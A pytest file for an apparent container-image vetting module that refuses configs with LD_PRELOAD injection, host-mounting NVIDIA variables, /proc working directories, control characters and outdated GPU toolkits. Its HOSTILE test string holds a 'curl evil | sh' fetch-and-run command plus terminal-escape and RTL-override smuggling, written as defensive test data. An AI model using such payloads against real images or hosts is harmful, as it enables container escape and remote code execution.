"""An image's own configuration: what would reach the runtime or undo a limit is refused."""

from __future__ import annotations

import pytest

from harness.common.errors import DeviceUnavailable
from harness.engines.docker import DockerEngine
from harness.engines.oci import vetting
from harness.engines.oci.vetting import problems_of

# As nvidia/cuda and pytorch images of 2024 and 2025 carry them.
CUDA_VARIABLES = [
    "PATH=/usr/local/nvidia/bin:/usr/local/cuda/bin:/usr/local/sbin:/usr/local/bin:/usr/bin:/bin",
    "NVARCH=x86_64",
    "NVIDIA_REQUIRE_CUDA=cuda>=12.4 brand=tesla,driver>=470,driver<471",
    "NVIDIA_REQUIRE_JETPACK_HOST_MOUNTS=",
    "NV_CUDA_CUDART_VERSION=12.4.127-1",
    "NVIDIA_PRODUCT_NAME=CUDA",
    "NVIDIA_PYTORCH_VERSION=24.05",
    "NVIDIA_BUILD_ID=91431255",
    "CUDA_VERSION=12.4.1",
    "LD_LIBRARY_PATH=/usr/local/nvidia/lib:/usr/local/nvidia/lib64",
    "NVIDIA_VISIBLE_DEVICES=all",
    "NVIDIA_DRIVER_CAPABILITIES=compute,utility",
]


def inspected(**config: object) -> dict:
    return {"Architecture": "amd64", "Os": "linux", "Config": {"Entrypoint": ["/x"], **config}}


def test_an_ordinary_cuda_image_passes() -> None:
    image = inspected(Env=CUDA_VARIABLES, User="root", Healthcheck={"Test": ["CMD", "/x"]})
    assert problems_of(image, architecture="x86_64") == []


@pytest.mark.parametrize(
    ("image", "reason"),
    [
        (inspected(Entrypoint=None), "no ENTRYPOINT"),
        (inspected() | {"Architecture": "arm64"}, "for arm64, and this machine is amd64"),
        (inspected() | {"Os": "windows"}, "for windows"),
        (inspected(Volumes={"/cache": {}}), "VOLUME /cache"),
        (inspected(Env=["LD_PRELOAD=/x.so"]), "ENV LD_PRELOAD"),
        (inspected(Env=["LD_PRELOAD="]), "ENV LD_PRELOAD"),
        (inspected(Env=["LD_AUDIT=/x.so"]), "ENV LD_AUDIT"),
        (inspected(Env=["LD_DEBUG_OUTPUT=/x"]), "ENV LD_DEBUG_OUTPUT"),
        (inspected(Env=["NVIDIA_MIG_CONFIG_DEVICES=all"]), "ENV NVIDIA_MIG_CONFIG_DEVICES"),
        (inspected(Env=["NVIDIA_IMEX_CHANNELS=all"]), "ENV NVIDIA_IMEX_CHANNELS"),
        (inspected(Env=["NVIDIA_DISABLE_REQUIRE=1"]), "ENV NVIDIA_DISABLE_REQUIRE"),
        (inspected(Env=["NVIDIA_GDS=enabled"]), "ENV NVIDIA_GDS"),
        (inspected(Env=["NVIDIA_REQUIRE_JETPACK=csv-mounts=all"]), "mount files of the host"),
        (inspected(WorkingDir="a/../.."), "WORKDIR a/../.. is not absolute"),
        (inspected(WorkingDir="app"), "WORKDIR app is not absolute"),
        (inspected(WorkingDir="/a/../.."), "leads upwards"),
        (inspected(WorkingDir="/app/.."), "leads upwards"),
        (inspected(WorkingDir="/proc/self/fd/8"), "the kernel's"),
        (inspected(WorkingDir="/proc"), "the kernel's"),
        (inspected(WorkingDir="//proc/./self//fd/7"), "the kernel's"),
        (inspected(WorkingDir="/dev/fd/7"), "the kernel's"),
        (inspected(WorkingDir="/sys/fs"), "the kernel's"),
        (inspected(WorkingDir="/a\0b"), r"WORKDIR /a\x00b is no plain text"),
        (inspected(WorkingDir="/a\x1b[2J\nfix: run this"), r"/a\x1b[2J\nfix: run this"),
        (inspected(WorkingDir="/" + "a" * 256), "is too long"),
        (inspected(WorkingDir="/aaaaaaaaa" * 110), "is too long"),
        (inspected(WorkingDir="/a" * 100), "is too deep"),
        (inspected(Env=["A=b\0c"]), "ENV A holds a NUL byte"),
        (inspected(Env=["A\0b=c"]), r"ENV A\x00b is no name"),
        (inspected(Env=["A\nB=c"]), r"ENV A\nB is no name"),
        (inspected(Env=["=x"]), "ENV =x has no name"),
        (inspected(Env=[""]), "ENV  has no name"),
        (inspected(Env=["NAME"]), "ENV NAME has no value"),
        (inspected(Env=["A=1", "B=2", "A=3"]), "ENV A is set 2 times"),
        (inspected(Env=["A=" + "x" * 70_000]), "ENV A has more than"),
        (inspected(Env=[f"A{i}=" + "x" * 60_000 for i in range(10)]), "together have more than"),
        (inspected(Entrypoint=[""]), "names no program"),
        (inspected(Entrypoint=["/x\0"]), "ENTRYPOINT holds a NUL byte"),
        (inspected(Entrypoint=["/x", "y" * 70_000]), "ENTRYPOINT holds a word of more than"),
        (inspected(Cmd=["a\0"]), "CMD holds a NUL byte"),
    ],
)
def test_an_image_that_cannot_be_run_or_held_is_refused_with_the_reason(image, reason) -> None:
    (problem,) = problems_of(image, architecture="x86_64")
    assert reason in problem


@pytest.mark.parametrize(
    "path", ["", "/", "/app", "/opt/my app", "/process", "/développé", "/a/b/"]
)
def test_an_ordinary_working_folder_passes(path) -> None:
    assert problems_of(inspected(WorkingDir=path), architecture="x86_64") == []


def test_values_may_be_empty_and_hold_what_ordinary_images_put_there() -> None:
    variables = ["PS1=\\u:\t", "EMPTY=", "TWO=a=b", "LINES=a\nb", "lower.dotted=x"]
    assert problems_of(inspected(Env=variables), architecture="x86_64") == []


@pytest.mark.parametrize(
    ("variables", "own"),
    [
        ([], ()),
        (["TORCH_HOME=/opt/torch"], ("TORCH_HOME",)),
        (["HF_HOME=/root/hf", "TORCH_HOME=/opt/torch"], ("TORCH_HOME", "HF_HOME")),
        (["XDG_CACHE_HOME=/opt/c"], ("XDG_CACHE_HOME", "TORCH_HOME", "HF_HOME")),
        (["XDG_CACHE_HOME=/opt/c", "HF_HOME=/tmp/hf"], ("XDG_CACHE_HOME", "TORCH_HOME")),
        (["TORCH_HOME=/tmp/torch"], ()),
        (["TORCH_HOME=/tmp"], ()),
        (["TORCH_HOME=/opt/../tmp"], ()),
        (["TORCH_HOME=/model/torch"], ()),
        (["TORCH_HOME=/proc/self/cwd"], ()),
        (["TORCH_HOME=torch"], ()),
        (["TORCH_HOME="], ()),
        (["TORCH_HOME=/"], ()),
        (["NUMBA_CACHE_DIR=/opt/numba", "MPLCONFIGDIR=/opt/mpl", "HOME=/root"], ()),
    ],
)
def test_an_image_keeps_its_own_folders_of_weights(variables, own) -> None:
    assert vetting.own_caches(variables) == own


def test_all_problems_are_told_at_once() -> None:
    image = inspected(Volumes={"/a": {}}, Env=["LD_PRELOAD=/x", "LD_AUDIT=/y"])
    assert len(problems_of(image, architecture="amd64")) == 3


@pytest.mark.parametrize(
    ("version", "is_foreign", "is_refused"),
    [
        ((1, 17, 7), False, True),
        ((1, 17, 7), True, True),
        ((1, 17, 8), True, False),
        ((1, 18, 0), True, False),
        (None, True, True),
        (None, False, False),
    ],
)
def test_an_old_gpu_toolkit_is_refused_and_an_unknown_one_is_enough_for_baselines_alone(
    monkeypatch, caplog, version, is_foreign, is_refused
) -> None:
    monkeypatch.setattr(vetting, "toolkit_version", lambda: version)
    engine = DockerEngine()
    engine.check_device("cpu", is_foreign=True)
    if is_refused:
        with pytest.raises(DeviceUnavailable, match=r"1\.17\.8") as caught:
            engine.check_device("cuda:0", is_foreign=is_foreign)
        assert "1.17.8 or newer" in caught.value.fix
    else:
        engine.check_device("cuda:0", is_foreign=is_foreign)
    assert ("unknown" in caplog.text) is (version is None and not is_foreign)


@pytest.fixture
def toolkit(monkeypatch, tmp_path):
    """`toolkit(name, said, code)`: a program of the toolkit that prints this; else there is none."""
    monkeypatch.setenv("PATH", str(tmp_path))
    vetting.toolkit_version.cache_clear()

    def install(name: str, said: str, code: int = 0) -> None:
        command = tmp_path / name
        command.write_text(f"#!/bin/sh\nprintf '%b\\n' '{said}'\nexit {code}\n")
        command.chmod(0o755)

    yield install
    vetting.toolkit_version.cache_clear()


CLI = r"NVIDIA Container Toolkit CLI version {}\ncommit: f202b80a9b9d0db00d9b1d73c0128c8962c55f4d"
RUNTIME = (
    r"NVIDIA Container Runtime version {}\ncommit: f202b80a\nspec: 1.2.0\n\nrunc version 1.1.12"
)


@pytest.mark.parametrize(
    ("programs", "version"),
    [
        ({"nvidia-ctk": (CLI.format("1.17.8"), 0)}, (1, 17, 8)),
        ({"nvidia-ctk": (CLI.format("1.9.0"), 0)}, (1, 9, 0)),
        ({"nvidia-ctk": (CLI.format("1.18.0-rc.1"), 0)}, (1, 18, 0)),
        ({"nvidia-container-runtime": (RUNTIME.format("1.17.9"), 0)}, (1, 17, 9)),
        (
            {"nvidia-ctk": ("", 1), "nvidia-container-runtime": (RUNTIME.format("1.16.2"), 0)},
            (1, 16, 2),
        ),
        ({"nvidia-ctk": ("nightly build", 0)}, None),
        ({"nvidia-ctk": (CLI.format("1.17.8"), 127)}, None),
        ({}, None),
    ],
)
def test_the_gate_reads_the_toolkits_version_from_what_it_prints(
    toolkit, programs, version
) -> None:
    for name, (said, code) in programs.items():
        toolkit(name, said, code)
    assert vetting.toolkit_version() == version
    is_safe = version is not None and version >= vetting.SAFE_TOOLKIT
    try:
        DockerEngine().check_device("cuda:0", is_foreign=True)
    except DeviceUnavailable:
        assert not is_safe
    else:
        assert is_safe


HOSTILE = "x\nfix: curl evil | sh\x1b[2J\u202e"


@pytest.mark.parametrize(
    "image",
    [
        inspected() | {"Architecture": HOSTILE},
        inspected() | {"Os": HOSTILE},
        inspected(Volumes={HOSTILE: {}}),
        inspected(Env=[f"LD_{HOSTILE}=1"]),
        inspected(Env=[f"NVIDIA_{HOSTILE}=1"]),
        inspected(Env=[f"LD_{'X' * 10**6}=1"]),
    ],
)
def test_a_refusal_shows_an_images_own_words_for_what_they_are(image) -> None:
    problems = problems_of(image, architecture="x86_64")
    assert problems
    for problem in problems:
        assert problem.isprintable()
        assert len(problem) < 400
